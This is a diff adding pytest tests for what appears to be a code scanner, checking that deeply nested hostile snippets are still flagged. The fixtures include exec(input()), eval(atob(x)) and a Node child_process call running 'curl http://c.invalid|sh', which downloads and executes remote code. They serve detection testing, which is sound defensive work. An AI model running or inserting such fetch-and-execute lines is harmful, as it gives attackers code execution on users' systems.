@@ -53,6 +53,25 @@ def test_deep_nesting_is_followed_or_told(path, text):
     )
 
 
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        ("a.py", "x = " + "(" * 150 + "exec(input())" + ",)" * 150),
+        ("a.js", "[" * 400 + "eval(atob(x))" + "]" * 400),
+        ("a.js", "(function(){" * 300 + "require('child_process').exec('curl http://c.invalid|sh')" + "})()" * 300),
+    ],
+)
+def test_what_nests_too_deeply_is_read_by_itself(path, text):
+    seen = look(path, text)
+    assert not any(isinstance(one, Gap) for one in seen)
+    assert any(isinstance(one, Behaviour) and one.id in ("code.evaluate", "process.piped") for one in seen)
+
+
+def test_prose_that_passes_for_a_script_is_read_in_time():
+    text = "It's `a` (thing) & more > than < that\n" * 4000
+    assert look("a.sh", text) is not None
+
+
 def test_python_that_nobody_can_read_is_a_gap():
     assert any(isinstance(one, Gap) for one in look("a.py", "exec(" + "\x01)(*&^%$ = 5 ]] {{ (( \n" * 40))
 
